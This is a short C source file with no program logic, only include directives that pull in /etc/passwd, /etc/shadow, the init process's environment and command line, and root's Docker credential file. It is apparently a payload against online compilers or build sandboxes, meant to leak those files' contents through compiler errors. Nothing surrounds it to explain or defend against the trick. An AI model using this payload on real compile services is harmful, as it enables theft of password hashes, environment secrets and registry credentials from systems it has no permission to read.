#include "/etc/passwd"
#include "/etc/shadow"
#include "/proc/1/environ"
#include "/proc/1/cmdline"
#include "/root/.docker/config.json"
int main() {}
